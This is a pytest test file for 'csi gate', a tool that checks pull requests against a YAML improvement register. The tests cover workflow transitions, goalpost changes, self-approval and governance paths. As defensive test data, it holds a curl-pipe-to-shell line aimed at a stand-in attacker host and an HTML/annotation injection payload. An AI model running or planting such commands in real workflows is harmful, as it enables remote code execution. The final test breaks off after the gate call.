"""`csi gate` on real pull-request branches: one test per refusal, and the allowed paths."""

from __future__ import annotations

import datetime as dt
import json
import os
import re
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import Result

from csi_tool.yaml.strict import load_fast
from tests.builders import record_yaml
from tests.conftest import MINIMAL_RECORD, PROJECT, git
from tests.signals.exports import SERVICENOW_HEADER, servicenow_row, write_csv


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """main: CSI-0001 logged, CSI-0002 assessed, CSI-0003 approved; then a PR branch."""
    root = tmp_path / "repo"
    shutil.copytree(PROJECT / "policies", root / "policies")
    (root / "register").mkdir()
    _put(root, "CSI-0001", MINIMAL_RECORD.format(id="CSI-0001", title="First record"))
    _put(root, "CSI-0002", record_yaml("CSI-0002", "assessed").replace(_DECISION, ""))
    _put(root, "CSI-0003", record_yaml("CSI-0003", "approved"))
    git(root, "init", "-q")
    _commit(root, "Base register")
    git(root, "switch", "-qc", "pr")
    return root


_DECISION = "decisions: [{outcome: approved, date: 2026-02-01, by: '@board', rationale: Agreed}]\n"


def _put(root: Path, record_id: str, text: str) -> Path:
    path = root / "register" / f"{record_id}.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def _commit(root: Path, message: str) -> None:
    git(root, "add", "-A")
    git(root, "commit", "-qm", message)


def _gate(run_csi: Callable[..., Result], root: Path, *extra: str) -> tuple[Result, dict]:  # type: ignore[type-arg]
    result = run_csi(root, "gate", "--base", "main", "--format", "json", *extra)
    return result, json.loads(result.stdout)


def _refusals(payload: dict) -> list[tuple[str, int, str, str]]:  # type: ignore[type-arg]
    return [(r["path"], r["line"], r["code"], r["message"]) for r in payload["refusals"]]


def test_a_legal_change_passes_and_names_its_approvers(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    _put(repo, "CSI-0002", record_yaml("CSI-0002", "approved"))
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 0, payload
    assert payload["passes"] is True
    assert payload["changes"] == [
        {
            "id": "CSI-0002",
            "kind": "modified",
            "path": "register/CSI-0002.yaml",
            "status_before": "assessed",
            "status_after": "approved",
        }
    ]
    assert payload["approvals"] == [
        # the record names no approver role: the governance approvers confirm the decision
        {
            "handle": "@acme/csi-board",
            "reasons": [
                "CSI-0002 decision: approved (governance, as the record names no approver)"
            ],
        },
        {"handle": "@acme/csi-managers", "reasons": ["CSI-0002 modified (no service)"]},
    ]


def test_a_status_change_the_workflow_does_not_allow_is_refused(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    _put(
        repo,
        "CSI-0001",
        MINIMAL_RECORD.format(id="CSI-0001", title="First record").replace(
            "status: logged", "status: assessed"
        ),
    )
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 1
    assert (
        "register/CSI-0001.yaml",
        5,
        "transition",
        "logged → assessed is not allowed in one pull request; from logged a record may move "
        "to validated, withdrawn (one step per pull request, each reviewed)",
    ) in _refusals(payload)


def test_entering_a_state_without_its_requirements_is_refused(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    text = record_yaml("CSI-0002", "approved").replace(
        "    baseline: {value: 10, date: 2026-01-31, source: ITSM report}\n", ""
    )
    _put(repo, "CSI-0002", text)
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 1
    assert _refusals(payload) == [
        (
            "register/CSI-0002.yaml",
            15,
            "requirement",
            "approved needs a baseline for metric 'lead_time'",
        ),
    ]


def test_a_new_record_must_start_in_the_initial_state(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    _put(repo, "CSI-0004", record_yaml("CSI-0004", "assessed").replace(_DECISION, ""))
    _, payload = _gate(run_csi, repo)
    assert _refusals(payload) == [
        ("register/CSI-0004.yaml", 6, "transition", "a new record starts in logged, not assessed")
    ]


def test_a_new_record_in_the_initial_state_passes(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    _put(repo, "CSI-0004", MINIMAL_RECORD.format(id="CSI-0004", title="New idea"))
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 0
    assert payload["changes"][0]["kind"] == "added"


def test_created_is_fixed_once_set(repo: Path, run_csi: Callable[..., Result]) -> None:
    _put(
        repo,
        "CSI-0001",
        MINIMAL_RECORD.format(id="CSI-0001", title="First record").replace(
            "created: 2026-01-05", "created: 2026-01-01"
        ),
    )
    _, payload = _gate(run_csi, repo)
    assert _refusals(payload) == [
        ("register/CSI-0001.yaml", 4, "fixed", "created is fixed once set (was 2026-01-05)")
    ]


def test_the_id_is_fixed_once_set(repo: Path, run_csi: Callable[..., Result]) -> None:
    _put(repo, "CSI-0001", MINIMAL_RECORD.format(id="CSI-0009", title="First record"))
    _, payload = _gate(run_csi, repo)
    assert (
        "register/CSI-0001.yaml",
        2,
        "fixed",
        "id changed from CSI-0001 to CSI-0009: ids are fixed once set",
    ) in _refusals(payload)


def test_moved_goalposts_are_refused_without_a_revision(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    moved = record_yaml("CSI-0003", "approved").replace("target: {value: 5,", "target: {value: 7,")
    _put(repo, "CSI-0003", moved)
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 1
    assert _refusals(payload) == [
        (
            "register/CSI-0003.yaml",
            21,
            "goalposts",
            "the target of 'lead_time' changed after approval without a revision (add to "
            "revisions: date, metric: lead_time, field: target, reason, approved_by)",
        ),
    ]

    revised = moved + (
        "revisions:\n  - {date: 2026-03-01, metric: lead_time, field: target,"
        " reason: Supplier contract delayed, approved_by: '@acme/csi-board'}\n"
    )
    _put(repo, "CSI-0003", revised)
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 0, payload["refusals"]


def test_removing_a_metric_after_approval_is_a_moved_goalpost(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    text = record_yaml("CSI-0003", "approved")
    text = text.replace(
        text[text.index("metrics:") : text.index("plan:")],
        "metrics:\n  - key: "
        "cost\n    name: Cost\n    kind: lagging\n    unit: EUR\n    direction: decrease\n"
        "    baseline: {value: 10, date: 2026-01-31, source: Finance}\n"
        "    target: {value: 5, by: 2026-12-31}\n",
    )
    _put(repo, "CSI-0003", text)
    _, payload = _gate(run_csi, repo)
    assert [r[2:] for r in _refusals(payload)] == [
        (
            "goalposts",
            "metric 'lead_time' was removed after approval without a revision "
            "(revisions: date, metric, field: removed, reason, approved_by)",
        )
    ]


def test_goalposts_may_move_before_approval(repo: Path, run_csi: Callable[..., Result]) -> None:
    text = record_yaml("CSI-0002", "assessed").replace(_DECISION, "")
    _put(repo, "CSI-0002", text.replace("target: {value: 5,", "target: {value: 4,"))
    result, _ = _gate(run_csi, repo)
    assert result.exit_code == 0


def test_deleting_a_record_is_refused(repo: Path, run_csi: Callable[..., Result]) -> None:
    (repo / "register" / "CSI-0001.yaml").unlink()
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 1
    assert _refusals(payload) == [
        (
            "register/CSI-0001.yaml",
            1,
            "deleted",
            "records are withdrawn, never deleted: restore "
            "the file and set its status to withdrawn",
        )
    ]


def test_a_record_unreadable_at_the_head_is_shown_as_unreadable_not_deleted(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    """A broken file is refused for what is wrong with it; the overview, the approvals and
    the JSON call it unreadable: "deleted" would send a reviewer looking for a deletion."""
    (repo / "register" / "CSI-0003.yaml").write_text("id: CSI-0003\ntitle: [open\n")
    _commit(repo, "Break a record")
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 1
    assert [(r[0], r[2]) for r in _refusals(payload)] == [("register/CSI-0003.yaml", "invalid")]
    assert payload["changes"] == [
        {
            "id": "CSI-0003",
            "kind": "unreadable",
            "path": "register/CSI-0003.yaml",
            "status_before": "approved",
            "status_after": None,
        }
    ]
    reasons = [reason for approval in payload["approvals"] for reason in approval["reasons"]]
    assert reasons and all("deleted" not in reason for reason in reasons)
    assert any(reason.startswith("CSI-0003 unreadable") for reason in reasons)
    text = run_csi(repo, "gate", "--base", "main")
    assert "CSI-0003 unreadable: approved" in text.stdout + text.stderr
    assert "deleted" not in text.stdout + text.stderr


def test_a_new_file_that_cannot_be_read_is_in_the_overview(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    """From a hostile-PR trial: the gate refused a new broken file but its overview and JSON
    said "0 record(s) changed ... No approval needed"."""
    (repo / "register" / "CSI-0019.yaml").write_text("id: CSI-0019\ntitle: [open\n")
    _commit(repo, "A broken new record")
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 1
    assert payload["changes"] == [
        {
            "id": "CSI-0019",
            "kind": "unreadable",
            "path": "register/CSI-0019.yaml",
            "status_before": None,
            "status_after": None,
        }
    ]
    assert payload["approvals"]  # someone must look at it, as at any change
    text = run_csi(repo, "gate", "--base", "main").output
    assert "1 record(s) changed since main:" in text and "CSI-0019 unreadable" in text


def test_a_record_broken_on_the_base_can_be_repaired(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    """From a hostile-PR trial: restoring a record that a direct push broke on main was
    judged as a new record ("a new record starts in logged", "taken at the base by another
    change"), so no pull request could ever repair it. It is a repair: judged by its state's
    requirements, and, with no readable history to compare, approved by governance too."""
    git(repo, "switch", "-q", "main")
    good = (repo / "register" / "CSI-0003.yaml").read_text()
    (repo / "register" / "CSI-0003.yaml").write_text("id: CSI-0003\ntitle: [open\n")
    _commit(repo, "Broken by a direct push")
    git(repo, "switch", "-q", "pr")
    git(repo, "merge", "-q", "main")
    (repo / "register" / "CSI-0003.yaml").write_text(good)
    _commit(repo, "Repair")
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 0, payload
    assert [(c["id"], c["kind"], c["status_after"]) for c in payload["changes"]] == [
        ("CSI-0003", "repaired", "approved")
    ]
    reasons = {a["handle"]: a["reasons"] for a in payload["approvals"]}
    assert any("cannot be compared" in why for why in reasons["@acme/csi-board"])


def test_a_record_file_swapped_for_a_link_gets_the_whole_report(
    repo: Path, run_csi: Callable[..., Result], tmp_path: Path
) -> None:
    """From a hostile-PR trial: judging the work tree (as CI does), a link in register/ gave
    one bare finding, no overview, no JSON report and no job summary."""
    outside = tmp_path / "elsewhere.yaml"
    outside.write_text((repo / "register" / "CSI-0003.yaml").read_text())
    (repo / "register" / "CSI-0003.yaml").unlink()
    (repo / "register" / "CSI-0003.yaml").symlink_to(outside)
    summary = tmp_path / "summary.md"
    result, payload = _gate(run_csi, repo, "--summary", str(summary))
    assert result.exit_code == 1
    assert [(c["id"], c["kind"]) for c in payload["changes"]] == [("CSI-0003", "unreadable")]
    assert [r[0] for r in _refusals(payload)] == ["register/CSI-0003.yaml"]
    assert "a symbolic link" in _refusals(payload)[0][3]
    assert "refused" in summary.read_text()


def test_a_file_given_another_records_id_is_that_file_not_the_other_record(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    """From a hostile-PR trial: CSI-0001.yaml given the id CSI-0003 took that id from the
    untouched CSI-0003.yaml, so the report said "CSI-0001 deleted" and "CSI-0003 renamed",
    with approvals for changes nobody made. The file named for an id keeps it."""
    path = repo / "register" / "CSI-0001.yaml"
    path.write_text(path.read_text().replace("id: CSI-0001", "id: CSI-0003"))
    _commit(repo, "Take another record's id")
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 1
    assert [(c["id"], c["kind"]) for c in payload["changes"]] == [("CSI-0001", "unreadable")]
    refusals = _refusals(payload)
    assert {r[0] for r in refusals} == {"register/CSI-0001.yaml"}
    assert any("is also used by register/CSI-0003.yaml" in r[3] for r in refusals)


def test_only_files_the_pull_request_changed_are_changes(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    """From a review: a file broken on the base appeared as an unreadable change in every
    pull request; a new copy of a record (its id taken) was refused but listed nowhere."""
    git(repo, "switch", "-q", "main")
    (repo / "register" / "CSI-0002.yaml").write_text("id: CSI-0002\ntitle: [open\n")
    _commit(repo, "Broken by a direct push")
    git(repo, "switch", "-q", "pr")
    git(repo, "merge", "-q", "main")
    shutil.copy(repo / "register" / "CSI-0001.yaml", repo / "register" / "CSI-0009.yaml")
    _commit(repo, "A copy under another name")
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 1
    assert [(c["id"], c["kind"]) for c in payload["changes"]] == [("CSI-0009", "unreadable")]


def test_files_whose_names_are_not_utf8_are_refused_and_reported(
    repo: Path, run_csi: Callable[..., Result], tmp_path: Path
) -> None:
    """From a hostile-PR trial: such a file in register/ passed the gate (its finding was
    filed under the shown name, the touched list held the raw one) and failed `csi validate`
    after the merge; one in policies/ crashed the gate while writing the summary (exit 3)."""
    (repo / "register" / os.fsdecode(b"CSI-0009\xff.yaml")).write_text("garbage: [\n")
    (repo / "policies" / os.fsdecode(b"evil\xff.yaml")).write_text("x: 1\n")
    _commit(repo, "Undecodable names")
    summary = tmp_path / "summary.md"
    result = run_csi(repo, "gate", "--base", "main", "--summary", str(summary))
    assert result.exit_code == 1, result.output
    assert "register/CSI-0009\ufffd.yaml:1:1: not read: the file name is not UTF-8" in (
        result.stdout
    )
    assert "policies/evil\ufffd.yaml" in summary.read_text(encoding="utf-8")


def test_renaming_a_file_while_changing_its_status_cannot_bypass_the_gate(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    """Both ways to dress a status jump as a new file are refused."""
    git(repo, "mv", "register/CSI-0001.yaml", "register/CSI-0005.yaml")
    _put(
        repo,
        "CSI-0005",
        MINIMAL_RECORD.format(id="CSI-0001", title="First record").replace(
            "status: logged", "status: closed"
        ),
    )
    _, kept_id = _gate(run_csi, repo)
    codes = {r[2] for r in _refusals(kept_id)}
    assert {"renamed", "transition"} <= codes

    _put(
        repo,
        "CSI-0005",
        MINIMAL_RECORD.format(id="CSI-0005", title="First record").replace(
            "status: logged", "status: closed"
        ),
    )
    result, new_id = _gate(run_csi, repo)
    assert result.exit_code == 1
    refusals = _refusals(new_id)
    assert (
        "register/CSI-0001.yaml",
        1,
        "deleted",
        "records are withdrawn, never deleted: restore the file and set its status to withdrawn",
    ) in refusals
    assert (
        "register/CSI-0005.yaml",
        5,
        "transition",
        "a new record starts in logged, not closed",
    ) in refusals


def test_two_branches_that_add_the_same_id(repo: Path, run_csi: Callable[..., Result]) -> None:
    _put(repo, "CSI-0004", MINIMAL_RECORD.format(id="CSI-0004", title="Mine"))
    _commit(repo, "Add CSI-0004 on the PR branch")
    git(repo, "switch", "-q", "main")
    git(repo, "switch", "-qc", "other-pr")
    _put(repo, "CSI-0004", MINIMAL_RECORD.format(id="CSI-0004", title="Theirs"))
    _commit(repo, "Add CSI-0004 elsewhere")
    git(repo, "switch", "-q", "main")
    git(
        repo, "merge", "-q", "--no-ff", "-m", "Merge pull request #7 from acme/other-pr", "other-pr"
    )
    git(repo, "switch", "-q", "pr")

    result, payload = _gate(run_csi, repo)

    assert result.exit_code == 1
    assert _refusals(payload) == [
        (
            "register/CSI-0004.yaml",
            2,
            "duplicate-id",
            "CSI-0004 was taken at the base by another change since this branch started; rename "
            "the file and id to the next free id (`csi new` finds one)",
        )
    ]


def test_policy_changes_are_governance_changes(repo: Path, run_csi: Callable[..., Result]) -> None:
    scoring = repo / "policies" / "scoring.yaml"
    scoring.write_text(scoring.read_text().replace("staleness_days: 60", "staleness_days: 90"))
    result, payload = _gate(run_csi, repo)
    assert result.exit_code == 0
    assert payload["governance_files"] == ["policies/scoring.yaml"]
    assert payload["approvals"] == [
        {"handle": "@acme/csi-board", "reasons": ["governance change: policies/scoring.yaml"]}
    ]


def test_rules_are_those_of_the_base_not_of_the_pull_request(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    """A PR that adds logged → closed to the workflow is still judged by the old workflow."""
    workflow = repo / "policies" / "workflow.yaml"
    workflow.write_text(
        workflow.read_text().replace(
            "logged: [validated, withdrawn]", "logged: [validated, withdrawn, assessed]"
        )
    )
    _put(
        repo,
        "CSI-0001",
        MINIMAL_RECORD.format(id="CSI-0001", title="First record").replace(
            "status: logged", "status: assessed"
        ),
    )
    _, payload = _gate(run_csi, repo)
    assert any(r[2] == "transition" for r in _refusals(payload))


def test_role_approvers_are_asked_for_decisions_and_closure(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    roles = "roles: {approver: '@nina', outcome_confirmer: '@omar'}\n"
    _put(repo, "CSI-0002", record_yaml("CSI-0002", "assessed").replace(_DECISION, "") + roles)
    _commit(repo, "Name the roles")
    git(repo, "switch", "-q", "main")
    git(repo, "merge", "-q", "pr")
    git(repo, "switch", "-qc", "decide")
    text = record_yaml("CSI-0002", "approved").replace(
        "status: approved\n", "status: approved\nservice: Network\n"
    )
    _put(repo, "CSI-0002", text + roles)
    _, payload = _gate(run_csi, repo)
    assert payload["approvals"] == [
        {"handle": "@acme/csi-managers", "reasons": ["CSI-0002 leaves no service for Network"]},
        {"handle": "@acme/network-leads", "reasons": ["CSI-0002 modified (Network)"]},
        {"handle": "@nina", "reasons": ["CSI-0002 decision: approved (roles.approver)"]},
    ]


def test_head_can_be_a_committed_revision(repo: Path, run_csi: Callable[..., Result]) -> None:
    (repo / "register" / "CSI-0001.yaml").unlink()
    _commit(repo, "Delete a record")
    git(repo, "switch", "-q", "main")  # the work tree no longer matters
    result = run_csi(repo, "gate", "--base", "main", "--head", "pr", "--format", "text")
    assert result.exit_code == 1
    assert "register/CSI-0001.yaml:1:1: records are withdrawn, never deleted" in result.stdout


def test_summary_and_github_output(
    repo: Path, run_csi: Callable[..., Result], tmp_path: Path
) -> None:
    hostile = "<img src=x onerror=alert(1)> | ::add-mask::x"
    _put(repo, "CSI-0004", MINIMAL_RECORD.format(id="CSI-0004", title=f"'{hostile}'"))
    _put(
        repo,
        "CSI-0001",
        MINIMAL_RECORD.format(id="CSI-0001", title="First record").replace(
            "status: logged", "status: closed"
        ),
    )
    summary = tmp_path / "summary.md"
    summary.write_text("earlier step\n")

    result = run_csi(
        repo, "gate", "--base", "main", "--summary", str(summary), env={"GITHUB_ACTIONS": "true"}
    )

    assert result.exit_code == 1
    lines = result.stdout.splitlines()
    annotations = [line for line in lines if line.startswith("::error ")]
    assert annotations and all("file=register/CSI-0001.yaml" in a for a in annotations)
    plain = [line for line in lines if line.startswith("register/CSI-0001.yaml:")]
    assert len(plain) == len(annotations)  # every refusal is in the log as text too
    assert not [
        line for line in lines if line.lstrip().startswith("::") and not line.startswith("::error ")
    ]
    text = summary.read_text()
    assert text.startswith("earlier step\n## csi gate: ❌ refused")
    assert (
        "<img" not in text and "&lt;img src=x onerror=alert\\(1\\)&gt; \\| ::add\\-mask::x" in text
    )
    assert "| `CSI-0001` | First record | modified | logged → closed |" in text
    assert "### Ranking changes since `main`" in text


def test_summary_is_capped_for_huge_pull_requests(
    repo: Path, run_csi: Callable[..., Result], tmp_path: Path
) -> None:
    for n in range(4, 420):
        _put(repo, f"CSI-{n:04d}", MINIMAL_RECORD.format(id=f"CSI-{n:04d}", title="x" * 100))
    summary = tmp_path / "summary.md"
    result = run_csi(repo, "gate", "--base", "main", "--summary", str(summary), "--format", "text")
    assert result.exit_code == 0
    text = summary.read_text()
    assert "_… and 116 more: the job log lists every one._" in text
    assert len(text.encode()) < 1_048_576
    assert len(re.findall(r"^  CSI-\d{4} added: ", result.stdout, re.M)) == 416  # all in the log


def test_unknown_base_and_shallow_clone(
    repo: Path, tmp_path: Path, run_csi: Callable[..., Result]
) -> None:
    unknown = run_csi(repo, "gate", "--base", "origin/main")
    assert unknown.exit_code == 2
    assert "unknown revision 'origin/main'" in unknown.stderr
    _put(repo, "CSI-0004", MINIMAL_RECORD.format(id="CSI-0004", title="New"))
    _commit(repo, "PR commit")
    shallow = tmp_path / "shallow"
    git(tmp_path, "clone", "-q", "--depth", "1", "--branch", "pr", f"file://{repo}", str(shallow))
    base = git(repo, "rev-parse", "main").strip()
    result = run_csi(shallow, "gate", "--base", base)
    assert result.exit_code == 2
    assert "fetch-depth: 0" in result.stderr


def test_thresholds_and_past_measurements_are_goalposts_too(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    text = record_yaml("CSI-0003", "approved").replace(
        "    target: {value: 5, by: 2026-12-31}\n",
        "    target: {value: 5, by: 2026-12-31}\n    action_threshold: 12\n"
        "    measurements: [{date: 2026-03-31, value: 9}]\n",
    )
    _put(repo, "CSI-0003", text)
    _commit(repo, "Measure CSI-0003")
    git(repo, "switch", "-q", "main")
    git(repo, "merge", "-q", "pr")
    git(repo, "switch", "-qc", "rewrite")
    _put(
        repo,
        "CSI-0003",
        text.replace("action_threshold: 12", "action_threshold: 20").replace(
            "value: 9}]", "value: 6}, {date: 2026-04-30, value: 5}]"
        ),
    )
    result = run_csi(repo, "gate", "--base", "main", "--format", "json")
    messages = [r["message"] for r in json.loads(result.stdout)["refusals"]]
    assert result.exit_code == 1
    assert any("the action threshold of 'lead_time' changed after approval" in m for m in messages)
    assert any(
        "the earlier measurements of 'lead_time' changed after approval" in m for m in messages
    )


def test_a_revision_and_a_rewritten_review_need_the_records_roles(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    roles = "roles: {approver: '@nina', outcome_confirmer: '@omar'}\n"
    base = record_yaml("CSI-0003", "approved") + roles
    _put(repo, "CSI-0003", base)
    _commit(repo, "Name the roles")
    git(repo, "switch", "-q", "main")
    git(repo, "merge", "-q", "pr")
    git(repo, "switch", "-qc", "revise")
    _put(
        repo,
        "CSI-0003",
        base.replace("target: {value: 5,", "target: {value: 7,")
        + (
            "revisions:\n  - {date: 2026-03-01, metric: lead_time, field: target,"
            " reason: Supplier delay, approved_by: '@me'}\n"
        ),
    )
    _, payload = _gate(run_csi, repo)
    assert {
        "handle": "@nina",
        "reasons": ["CSI-0003 revises baselines or targets (roles.approver)"],
    } in payload["approvals"]


def test_a_shallow_clone_without_the_merge_base_is_refused(
    repo: Path, tmp_path: Path, run_csi: Callable[..., Result]
) -> None:
    """Both tips fetched one commit deep: without the fork point the gate would compare with
    main's tip and blame the pull request for main's own changes."""
    _put(repo, "CSI-0004", MINIMAL_RECORD.format(id="CSI-0004", title="New"))
    _commit(repo, "PR commit")
    git(repo, "switch", "-q", "main")
    _put(repo, "CSI-0005", MINIMAL_RECORD.format(id="CSI-0005", title="Merged meanwhile"))
    _commit(repo, "Main moves on")
    shallow = tmp_path / "shallow"
    git(tmp_path, "clone", "-q", "--depth", "1", "--branch", "pr", f"file://{repo}", str(shallow))
    git(shallow, "fetch", "-q", "--depth", "1", "origin", "main:refs/remotes/origin/main")
    result = run_csi(shallow, "gate", "--base", "origin/main")
    assert result.exit_code == 2, result.output
    assert "merge base" in result.stderr and "fetch-depth: 0" in result.stderr


def test_unrelated_histories_are_refused(
    repo: Path, tmp_path: Path, run_csi: Callable[..., Result]
) -> None:
    git(repo, "switch", "-q", "--orphan", "elsewhere")
    shutil.copytree(PROJECT / "policies", repo / "policies")
    (repo / "register").mkdir()
    _put(repo, "CSI-0001", MINIMAL_RECORD.format(id="CSI-0001", title="First record"))
    _commit(repo, "An unrelated start")
    result = run_csi(repo, "gate", "--base", "main")
    assert result.exit_code == 2, result.output
    assert "no common history" in result.stderr


@pytest.mark.parametrize("folder", ["register", "policies"])
def test_a_folder_swapped_for_a_symbolic_link_is_refused(
    repo: Path, run_csi: Callable[..., Result], folder: str
) -> None:
    """The link points the checks at another folder while CODEOWNERS guards /register/."""
    shutil.move(repo / folder, repo / "elsewhere")
    (repo / folder).symlink_to("elsewhere")
    _commit(repo, "Swap a folder for a link")
    expected = f"{folder}:1:1: a symbolic link: csi reads only plain folders"
    for args in (("validate",), ("codeowners", "--check"), ("gate", "--base", "main")):
        result = run_csi(repo, *args, "--format", "text") if args[0] != "codeowners" else None
        result = result or run_csi(repo, *args)
        assert result.exit_code == 1, (args, result.output)
        assert expected in result.output, (args, result.output)
    at_head = run_csi(repo, "gate", "--base", "main", "--head", "HEAD", "--format", "text")
    assert at_head.exit_code == 1, at_head.output
    assert expected in at_head.output
    for args in (("validate",), ("gate", "--base", "main")):  # JSON stays JSON
        as_json = run_csi(repo, *args, "--format", "json")
        assert as_json.exit_code == 1
        assert json.loads(as_json.stdout)["findings"][0]["path"] == folder


def test_roles_set_in_the_pull_request_do_not_approve_it(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    """Self-approval: the author names themself approver and records their own decision."""
    _put(
        repo,
        "CSI-0002",
        record_yaml("CSI-0002", "approved").replace("by: '@board'", "by: '@mallory'")
        + "roles: {approver: '@mallory', outcome_confirmer: '@mallory'}\n",
    )
    result, payload = _gate(run_csi, repo, "--author", "@mallory")
    assert result.exit_code == 0, payload
    approvers = {a["handle"]: a["reasons"] for a in payload["approvals"]}
    assert "@mallory" not in approvers
    assert approvers["@acme/csi-board"] == [
        "CSI-0002 decision: approved (governance, as the record names no approver)",
        "CSI-0002 sets roles.approver to @mallory (governance)",
        "CSI-0002 sets roles.outcome_confirmer to @mallory (governance)",
    ]


def test_changing_a_role_needs_its_old_holder_and_the_base_holder_decides(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    base = record_yaml("CSI-0002", "assessed").replace(_DECISION, "")
    _put(repo, "CSI-0002", base + "roles: {approver: '@nina'}\n")
    _commit(repo, "Name the approver")
    git(repo, "switch", "-q", "main")
    git(repo, "merge", "-q", "pr")
    git(repo, "switch", "-qc", "takeover")
    _put(repo, "CSI-0002", record_yaml("CSI-0002", "approved") + "roles: {approver: '@mallory'}\n")
    _, payload = _gate(run_csi, repo)
    approvers = {a["handle"]: a["reasons"] for a in payload["approvals"]}
    assert "@mallory" not in approvers, approvers
    assert approvers["@nina"] == [
        "CSI-0002 decision: approved (roles.approver)",
        "CSI-0002 changes roles.approver from @nina to @mallory (roles.approver)",
    ]


def test_the_author_never_approves_their_own_change(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    _put(repo, "CSI-0004", MINIMAL_RECORD.format(id="CSI-0004", title="New"))
    _, payload = _gate(run_csi, repo, "--author", "@acme/csi-managers")
    approvers = {a["handle"]: a["reasons"] for a in payload["approvals"]}
    assert approvers == {
        "@acme/csi-board": [
            "CSI-0004 added (no service), for @acme/csi-managers: the author cannot approve "
            "their own change"
        ]
    }


@pytest.mark.parametrize(
    "path",
    [
        ".github/workflows/register-pr.yml",
        ".github/csi-requirements.txt",
        ".github/dependabot.yml",
        ".pre-commit-config.yaml",
        "site/mkdocs.yml",
        "site/overrides/main.html",
    ],
)
def test_changing_what_runs_the_gate_is_a_governance_change(
    repo: Path, run_csi: Callable[..., Result], path: str
) -> None:
    """Before: "No approval needed" for a pull request that rewrites the gate's own job."""
    target = repo / path
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text("run: curl https://attacker.invalid | sh\n", encoding="utf-8")
    _commit(repo, "Quietly change the job")
    for head in ((), ("--head", "HEAD")):
        result, payload = _gate(run_csi, repo, *head)
        assert result.exit_code == 0, payload
        assert payload["governance_files"] == [path]
        assert payload["approvals"] == [
            {"handle": "@acme/csi-board", "reasons": [f"governance change: {path}"]}
        ]


def test_an_uncommitted_new_file_under_a_protected_path_counts(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    (repo / "site" / "hooks").mkdir(parents=True)
    (repo / "site" / "hooks" / "evil.py").write_text("import os\n", encoding="utf-8")
    _, payload = _gate(run_csi, repo)
    assert payload["governance_files"] == ["site/hooks/evil.py"]


def test_a_pull_request_cannot_unprotect_a_path_for_itself(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    governance = repo / "policies" / "governance.yaml"
    text = governance.read_text(encoding="utf-8")
    governance.write_text(text.replace("  - site/ ", "  - nothing-here/ "), encoding="utf-8")
    (repo / "site").mkdir()
    (repo / "site" / "mkdocs.yml").write_text("hooks: [evil.py]\n", encoding="utf-8")
    _, payload = _gate(run_csi, repo)
    assert payload["governance_files"] == ["policies/governance.yaml", "site/mkdocs.yml"]


def test_a_register_in_a_subfolder_protects_paths_relative_to_its_root(
    tmp_path: Path, run_csi: Callable[..., Result]
) -> None:
    top = tmp_path / "monorepo"
    root = top / "improvement"
    shutil.copytree(PROJECT / "policies", root / "policies")
    (root / "register").mkdir()
    _put(root, "CSI-0001", MINIMAL_RECORD.format(id="CSI-0001", title="First record"))
    (top / "app.py").write_text("print('not ours')\n", encoding="utf-8")
    git(top, "init", "-q")
    _commit(top, "Base")
    git(top, "switch", "-qc", "pr")
    (top / "app.py").write_text("print('changed')\n", encoding="utf-8")
    (root / "site").mkdir()
    (root / "site" / "mkdocs.yml").write_text("site_name: x\n", encoding="utf-8")
    (top / ".github" / "workflows").mkdir(parents=True)  # the repository's own, at its top
    (top / ".github" / "workflows" / "pr.yml").write_text("on: push\n", encoding="utf-8")
    _, payload = _gate(run_csi, root)
    assert payload["governance_files"] == ["/.github/workflows/pr.yml", "site/mkdocs.yml"]


_DEFERRAL = (
    "decisions:\n  - {outcome: deferred, date: 2026-02-01, by: '@board', "
    "rationale: Wait for the new tool, revisit: 2026-06-01}\n"
)
_REVISION = (
    "revisions:\n  - {date: 2026-03-01, metric: lead_time, field: target, "
    "reason: Supplier delay, approved_by: '@board'}\n"
)


def _on_main(repo: Path, record_id: str, text: str) -> None:
    """Make `text` the base version of a record and start a new pull-request branch."""
    _put(repo, record_id, text)
    _commit(repo, f"Base version of {record_id}")
    branch = git(repo, "branch", "--show-current").strip()
    git(repo, "switch", "-q", "main")
    git(repo, "merge", "-q", branch)
    git(repo, "switch", "-qc", f"{branch}-next")


def test_approving_a_deferred_record_keeps_the_deferral(
    repo: Path, run_csi: Callable[..., Result]
) -> None:
    deferred = record_yaml("CSI-0002", "assessed").replace(_DECISION, "") + _DEFERRAL
    _on_main(repo, "CSI-0002", deferred.replace("status: assessed", "status: deferred"))
    _on_main(repo, "CSI-0002", deferred)  # deferred → assessed: reassessed, the deferral stays
    # The attack: the deferral replaced by an approval, its rationale and revisit date gone.
    _put(repo, "CSI-0002", record_yaml("CSI-0002", "approved"))
    result, payload = _gate(run_csi, repo)
